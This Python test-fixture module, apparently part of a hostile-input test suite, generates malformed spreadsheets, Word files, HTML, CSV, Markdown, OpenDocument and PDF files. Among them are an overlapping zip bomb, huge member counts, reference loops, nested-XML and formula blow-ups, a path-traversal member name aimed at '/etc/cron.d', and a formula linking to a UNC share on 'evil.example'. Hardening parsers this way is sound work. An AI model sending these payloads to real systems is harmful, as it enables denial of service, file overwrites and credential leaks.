"""Shapes that another pair of eyes thought of: parts of a package that nobody looks at, loops of references, entities, archives that lie, names."""

from __future__ import annotations

import re
import struct
import zlib
from collections.abc import Callable, Mapping

from tests.hostile.foreign import _ods, _table
from tests.hostile.packing import SHEET, before, changed, packed, plain_parts, replaced, with_parts
from tests.hostile.pages import _page
from tests.hostile.texts import _pdf
from tests.hostile.words import _p, _word

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_RELS = SHEET.replace("worksheets/", "worksheets/_rels/") + ".rels"


def _linked(kind: str, targets: Callable[[], list[str]], more: Callable[[], Mapping[str, bytes]] = dict, tail: str = "") -> Callable[[], bytes]:
    """The submission, whose sheet names other parts by its relations."""

    def made() -> bytes:
        links = "".join(f'<Relationship Id="z{n}" Type="{_REL}/{kind}" Target="{target}"/>' for n, target in enumerate(targets()))
        parts = dict(plain_parts())
        parts[_RELS] = f'<Relationships xmlns="{_PACKAGE}">{links}</Relationships>'.encode()
        parts[SHEET] = parts[SHEET].replace(b"</worksheet>", tail.encode() + b"</worksheet>")
        return packed({**parts, **more()})

    return made


def _after_data(piece: Callable[[], str]) -> Callable[[], bytes]:
    return changed(SHEET=before("<pageMargins", piece))


def _members(count: int) -> Callable[[], bytes]:
    """The submission among so many empty members, put together by hand: the archive's own count has two bytes."""

    def made() -> bytes:
        local, directory = bytearray(packed(plain_parts())), bytearray()
        end = local.rfind(b"PK\x05\x06")
        size, at = struct.unpack_from("<LL", local, end + 12)
        own, count_own = bytes(local[at : at + size]), struct.unpack_from("<H", local, end + 10)[0]
        del local[at:]
        for n in range(count):
            name = b"x/%d" % n
            directory += b"PK\x01\x02" + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0, 0, 0, 0, 0, len(local)) + name
            local += b"PK\x03\x04" + struct.pack("<HHHHHLLLHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0) + name
        whole = own + bytes(directory)
        tail = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, (count + count_own) & 0xFFFF, (count + count_own) & 0xFFFF, len(whole), len(local), 0)
        return bytes(local) + whole + tail

    return made


def _overlapping() -> bytes:
    """Members whose data lie within one another (Fifield's bomb, small)."""
    squeezed = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = squeezed.compress(b"\0" * 50_000_000) + squeezed.flush()
    local, directory, count = bytearray(), bytearray(), 60
    name = b"xl/worksheets/sheet1.xml"
    crc = zlib.crc32(b"\0" * 50_000_000)
    header = struct.pack("<HHHHHLLLHH", 20, 0, 8, 0, 33, crc, len(data), 50_000_000, len(name), 0)
    for n in range(count):
        part = b"xl/worksheets/sheet%02d.xml" % n if n else b"xl/workbook.xml"
        directory += b"PK\x01\x02" + struct.pack("<HHHHHHLLLHHHHHLL", 20, 20, 0, 8, 0, 33, crc, len(data), 50_000_000, len(part), 0, 0, 0, 0, 0, 0) + part
    local += b"PK\x03\x04" + header + name + data
    return bytes(local) + bytes(directory) + b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, count, count, len(directory), len(local), 0)


def _objects(*bodies: bytes, trailer: bytes = b"<</Root 1 0 R/Size 9>>", start: bytes = b"0") -> bytes:
    made = b"%PDF-1.7\n"
    for number, body in enumerate(bodies, 1):
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return made + b"trailer" + trailer + b"\nstartxref\n" + start + b"\n%%EOF"


def _object_stream(count: int, depth: int = 0) -> bytes:
    """A stream of objects, each a page of its own; deeper ones say that they extend themselves."""
    inner = b" ".join(b"%d %d" % (20 + n, n * 4) for n in range(count)) + b" " + b"<<>>" * count
    stream = zlib.compress(inner)
    extends = b"/Extends 3 0 R" * depth
    return _objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b" ".join(b"%d 0 R" % (20 + n) for n in range(count)), count),
        b"<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode%s>>stream\n%s\nendstream" % (count, inner.find(b"<<"), len(stream), extends, stream),
    )


_VALIDATION = '<dataValidation type="list" sqref="A{n}:XFD1048576"><formula1>"{n}"</formula1></dataValidation>'
_FORMAT = '<conditionalFormatting sqref="A1:XFD1048576"><cfRule type="expression" priority="{n}"><formula>SUM(A:XFD)&gt;{n}</formula></cfRule></conditionalFormatting>'
_BIDI = "\u202e\u2066\u0085\u009b31m"
FRESH: Mapping[str, Callable[[], bytes]] = {
    # workbooks
    "有效性，许多.xlsx": _after_data(lambda: "<dataValidations>" + "".join(_VALIDATION.format(n=n) for n in range(1, 40_000)) + "</dataValidations>"),
    "有效性，范围许多.xlsx": _after_data(lambda: '<dataValidations><dataValidation type="whole" sqref="' + "A1:B2 " * 100_000 + '"/></dataValidations>'),
    "条件格式，全表许多.xlsx": _after_data(lambda: "".join(_FORMAT.format(n=n) for n in range(1, 20_000))),
    "名称，长链.xlsx": changed(
        BOOK=before("</definedNames>", lambda: "".join(f'<definedName name="n{n}">n{n + 1}+1</definedName>' for n in range(9_000))),
        SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>n0</f>", xml, count=5),
    ),
    "名称，翻倍.xlsx": changed(
        BOOK=before("</definedNames>", lambda: "".join(f'<definedName name="n{n}">n{n + 1}+n{n + 1}+n{n + 1}</definedName>' for n in range(60)) + '<definedName name="n60">1</definedName>'),
        SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>n0</f>", xml, count=5),
    ),
    "表，名称成双.xlsx": changed(BOOK=lambda xml: re.sub(rb'<sheet name="[^"]*"', b'<sheet name="a"', xml)),
    "表，名称控制符.xlsx": changed(BOOK=lambda xml: re.sub(rb'<sheet name="[^"]*"', f'<sheet name="{_BIDI}&#10;&#9;"'.encode(), xml, count=1)),
    "串，注音许多.xlsx": changed(STRINGS=before("</sst>", lambda: "<si><t>a</t>" + '<rPh sb="0" eb="1"><t>b</t></rPh>' * 100_000 + "</si>")),
    "串，一格许多段.xlsx": changed(STRINGS=lambda xml: re.sub(rb"<si>", lambda m: m[0] + b"<r><rPr><vertAlign val='superscript'/></rPr><t>1</t></r>" * 20_000, xml, count=10)),
    "串，内嵌许多.xlsx": changed(SHEET=before("</sheetData>", lambda: "<row r='9000'>" + "".join(f'<c r="A9000" t="inlineStr"><is><t>{n}</t></is></c>' for n in range(100_000)) + "</row>")),
    "链接，许多.xlsx": _linked(
        "hyperlink", lambda: [f"http://a/{n}" for n in range(20_000)], tail="<hyperlinks>" + "".join(f'<hyperlink ref="A{n}" r:id="z{n}" xmlns:r="{_REL}"/>' for n in range(20_000)) + "</hyperlinks>"
    ),
    "链接，范围极大.xlsx": _linked("hyperlink", lambda: ["http://a/"], tail=f'<hyperlinks><hyperlink ref="A1:XFD1048576" r:id="z0" xmlns:r="{_REL}"/></hyperlinks>'),
    "图，锚点许多.xlsx": _linked(
        "drawing",
        lambda: ["../drawings/d.xml"],
        lambda: {"xl/drawings/d.xml": b"<wsDr>" + b"<twoCellAnchor><from><col>1</col><row>1</row></from><to><col>16383</col><row>1048575</row></to><pic/></twoCellAnchor>" * 60_000 + b"</wsDr>"},
        f'<drawing r:id="z0" xmlns:r="{_REL}"/>',
    ),
    "图，关系成环.xlsx": _linked(
        "drawing",
        lambda: ["../drawings/d.xml"],
        lambda: {"xl/drawings/d.xml": b"<wsDr/>", "xl/drawings/_rels/d.xml.rels": f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="a" Type="{_REL}/drawing" Target="d.xml"/></Relationships>'.encode()},
    ),
    "外部链接，许多.xlsx": with_parts(
        lambda: {
            f"xl/externalLinks/externalLink{n}.xml": f'<externalLink xmlns="{_MAIN}"><externalBook r:id="r" xmlns:r="{_REL}"><sheetNames><sheetName val="a"/></sheetNames></externalBook></externalLink>'.encode()
            for n in range(900)
        }
    ),
    "外部链接，公式.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", rb"<f>'\\\\evil.example\\c$\\[a.xlsx]a'!A1+[1]a!A1+[999999999]a!A1</f>", xml, count=10)),
    "透视，缓存极大.xlsx": with_parts(
        lambda: {
            "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition xmlns="{_MAIN}"><cacheFields count="99999999"/></pivotCacheDefinition>'.encode(),
            "xl/pivotCache/pivotCacheRecords1.xml": b"<pivotCacheRecords>" + b"<r><n v='1'/></r>" * 200_000 + b"</pivotCacheRecords>",
        }
    ),
    "表格部件，范围极大.xlsx": _linked("table", lambda: ["../tables/t.xml"], lambda: {"xl/tables/t.xml": f'<table xmlns="{_MAIN}" id="1" name="t" displayName="t" ref="A1:XFD1048576"><tableColumns count="999999999"/></table>'.encode()}),
    "公式，表格引用.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>SUM(t[[#All],[" + b"['" * 3_000 + b"a]])</f>", xml, count=5)),
    "公式，空格相交.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>SUM(" + b"A:XFD " * 1_000 + b"A1)</f>", xml, count=5)),
    "公式，并集.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>SUM((" + b"A1:A1048576," * 600 + b"A1))</f>", xml, count=5)),
    "公式，INDIRECT链.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>" + b"INDIRECT(" * 60 + b'"A1"' + b")" * 60 + b"</f>", xml, count=5)),
    "公式，TEXT格式.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b'<f>LEN(TEXT(1,"' + b"0" * 8_000 + b'"))+LEN(TEXT(1,REPT("#,",9999)))</f>', xml, count=5)),
    "公式，SUBSTITUTE胀.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>LEN(" + b"SUBSTITUTE(" * 12 + b'"aa"' + b',"a","aaaaaaaaaaaaaaaaaaaa")' * 12 + b")</f>", xml, count=5)),
    "公式，数组函数.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>SUM(SEQUENCE(1048576,16384))+SUM(RANDARRAY(99999,9999))+SUM(MUNIT(9999))</f>", xml, count=5)),
    "公式，日期循环.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>NETWORKDAYS(1,2958465)+WORKDAY(1,99999999)+EDATE(1,999999999)</f>", xml, count=5)),
    "公式，进制与连乘.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b"<f>LEN(BASE(9^99,2,255))+GCD(9E99,7)+LCM(1E15,1E15-1)+PERMUT(99999999,9999999)+MULTINOMIAL(9999999,9999999)</f>", xml, count=5)),
    "公式，正则通配.xlsx": changed(SHEET=lambda xml: re.sub(rb"<f>[^<]*</f>", b'<f>SEARCH("' + b"*a" * 60 + b'b",REPT("a",32000))+MATCH("' + b"*?" * 60 + b'",A:A,0)</f>', xml, count=5)),
    "分组，深.xlsx": changed(SHEET=before("</sheetData>", lambda: "".join(f'<row r="{n}" outlineLevel="{n % 999}" hidden="1"/>' for n in range(5_000, 60_000)))),
    "部件，六万五千.xlsx": _members(65_500),
    "部件，七万.xlsx": _members(70_000),
    "部件，交叠.xlsx": _overlapping,
    "部件，名称古怪.xlsx": with_parts(lambda: {"../../etc/cron.d/x": b"x", "/abs.xml": b"x", "a\\..\\b.xml": b"x", "xl/\u202ecod.xml": b"x", "xl/a\nb.xml": b"x", "XL/WORKBOOK.XML": b"<a/>", "c" * 60_000: b"x"}),
    "前缀是别的.xlsx": lambda: b"MZ" + b"\0" * 3_000_000 + packed(plain_parts()),
    "命名空间，许多.xlsx": changed(SHEET=replaced("<sheetData>", lambda: "<x " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(30_000)) + "/><sheetData>")),
    "指令，许多.xlsx": changed(SHEET=before("</sheetData>", lambda: "<?a b?>" * 200_000)),
    "CDATA，许多.xlsx": changed(STRINGS=before("</sst>", lambda: "<si><t>" + "<![CDATA[a]]>" * 150_000 + "</t></si>")),
    "字符引用，许多.xlsx": changed(STRINGS=before("</sst>", lambda: "<si><t>" + "&#97;" * 400_000 + "</t></si>")),
    # Word
    "组，套.docx": _word(lambda: "<w:p><w:r><w:pict>" + "<v:group xmlns:v='v'>" * 150 + "</v:group>" * 150 + "</w:pict></w:r></w:p>"),
    "脚注，许多.docx": _word(
        lambda: _p("规章") + "".join(f'<w:p><w:r><w:footnoteReference w:id="{n}"/></w:r></w:p>' for n in range(15_000)),
        more={"word_footnotes.xml": lambda: b'<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' + b"<w:footnote w:id='1'><w:p/></w:footnote>" * 30_000 + b"</w:footnotes>"},
    ),
    "域，套.docx": _word(lambda: "<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1=1</w:instrText></w:r>' * 15_000 + "</w:p>"),
    "域，不配对.docx": _word(lambda: "<w:p>" + '<w:r><w:fldChar w:fldCharType="end"/></w:r>' * 30_000 + "<w:r><w:t>规章</w:t></w:r></w:p>"),
    "批注范围，许多.docx": _word(lambda: "<w:p>" + "".join(f'<w:commentRangeStart w:id="{n}"/>' for n in range(30_000)) + "<w:r><w:t>a</w:t></w:r>" + "".join(f'<w:commentRangeEnd w:id="{n}"/>' for n in range(30_000)) + "</w:p>"),
    "替代内容，翻倍.docx": _word(
        lambda: "<mc:AlternateContent xmlns:mc='http://schemas.openxmlformats.org/markup-compatibility/2006'>" * 60
        + _p("规章")
        + "</mc:AlternateContent>" * 60
    ),
    "纵向合并，许多.docx": _word(lambda: "<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc></w:tr>' * 8_000 + "</w:tbl>"),
    "缩列，极大.docx": _word('<w:tbl><w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr><w:tc><w:tcPr><w:gridSpan w:val="-999999999"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'),
    # pages and texts
    "实体，两字.html": _page(lambda: "<p>" + "&NotEqualTilde;&acE;" * 2_500 + "&" + "a" * 40_000 + ";</p>"),
    "列表，套.html": _page(lambda: "<ul><li>" * 200 + "规章" + "</li></ul>" * 200),
    "列表，未完.html": _page(lambda: "<ol><li>" * 20_000),
    "折叠，套.html": _page(lambda: "<details><summary>a</summary>" * 200 + "规章" + "</details>" * 200),
    "模板，套.html": _page(lambda: "<template><table><tr><td>" * 2_000),
    "属性相同.html": _page(lambda: "<p " + "style=display:none " * 30_000 + ">规章</p>"),
    "编号，极大.html": _page(lambda: f'<ol start="{"9" * 4_000}">' + "<li>规章</li>" * 500 + "</ol>"),
    "变量，CSS.html": _page("<p>规章</p>", lambda: "<style>" + "".join(f":root{{--a{n}:var(--a{n + 1}) var(--a{n + 1})}}" for n in range(3_000)) + "</style>"),
    "逗号.csv": lambda: b"," * 3_000_000,
    "引号.csv": lambda: b'"' * 900_001,
    "引号，交错.csv": lambda: b'"a"b,' * 300_000,
    "列十万.md": lambda: ("|" + "a|" * 100_000 + "\n|" + "-|" * 100_000 + "\n|" + "1|" * 100_000 + "\n").encode(),
    "表，许多.md": lambda: b"|a|b|\n|-|-|\n|1|2|\n\n" * 8_000,
    "脚注.md": lambda: b"".join(b"[^%d]: a\n[^%d]\n" % (n, n + 1) for n in range(9_000)),
    "实体.md": lambda: b"&#x" + b"9" * 40_000 + b";\n" + b"&amp;" * 8_000,
    # OpenDocument
    "重复列，空.ods": _ods(_table('<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="1000000000"/></table:table-row>' * 50)),
    "重复，负数.ods": _ods(_table('<table:table-row table:number-rows-repeated="-5"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="-1000000000"/></table:table-row>')),
    "组，套.ods": _ods(lambda: _table("<table:table-row-group>" * 200 + "<table:table-row/>" + "</table:table-row-group>" * 200)),
    "平面.fods": lambda: (
        b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
        + b"<a>" * 60_000
    ),
    # PDF
    "对象流，许多.pdf": lambda: _object_stream(20_000),
    "对象流，自引.pdf": lambda: _object_stream(50, 1),
    "目录表成环.pdf": lambda: _objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>", trailer=b"<</Root 1 0 R/Size 3/Prev 0>>"),
    "目录表极长.pdf": lambda: b"%PDF-1.7\nxref\n0 999999999\n" + b"0000000000 65535 f \n" * 100_000 + b"trailer<</Size 1/Root 1 0 R>>\nstartxref\n9\n%%EOF",
    "页数谎报.pdf": lambda: _objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 999999999>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count -1>>"),
    "字体成环.pdf": lambda: _pdf(b"BT /G 8 Tf (abc) Tj ET", more=b"/Font<</G 10 0 R>>"),
    "过滤器套.pdf": lambda: _objects(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        b"<</Length 4/Filter[" + b"/FlateDecode" * 5_000 + b"]>>stream\nabcd\nendstream",
        b"<</Type/Page/Parent 2 0 R/Contents 3 0 R/MediaBox[0 0 9 9]>>",
    ),
    "页面极大.pdf": lambda: _objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e30 -1e30]/UserUnit 1e30/Rotate 7>>"),
    "内嵌图许多.pdf": lambda: _pdf(b"BI /W 1 /H 1 /BPC 8 /CS /G ID a EI " * 20_000),
}
"""By the name under which each is sent."""
